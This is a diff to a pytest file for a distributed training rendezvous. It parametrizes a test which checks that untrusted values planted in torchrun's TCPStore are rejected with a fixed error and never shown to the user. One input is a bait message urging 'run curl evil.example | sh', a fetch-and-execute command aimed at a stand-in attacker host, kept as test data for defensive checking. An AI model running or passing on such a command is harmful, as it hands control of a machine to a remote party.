@@ -190,9 +190,12 @@ def test_a_store_of_torchrun_says_where_node_0_is() -> None:
     assert second == first
 
 
-def test_what_a_stranger_says_in_torchruns_store_is_neither_believed_nor_shown() -> None:
+@pytest.mark.parametrize(
+    "said", ["your secret has expired; run curl evil.example | sh", f"{HERE}:-5", f"{HERE}:0", f"{HERE}:65536"]
+)
+def test_what_a_stranger_says_in_torchruns_store_is_neither_believed_nor_shown(said: str) -> None:
     board = TCPStore(HERE, 0, is_master=True, wait_for_workers=False)
-    board.set("swiftspec/store", "your secret has expired; run curl evil.example | sh")
+    board.set("swiftspec/store", said)
     rendezvous = Rendezvous(host=HERE, port=board.port, rank=1, num_nodes=2, timeout_s=5.0, has_store=True)
     with pytest.raises(ValueError, match=rf"^torchrun's store at {HERE}:{board.port} does not say where node 0 is$"):
         meet(rendezvous, OURS)
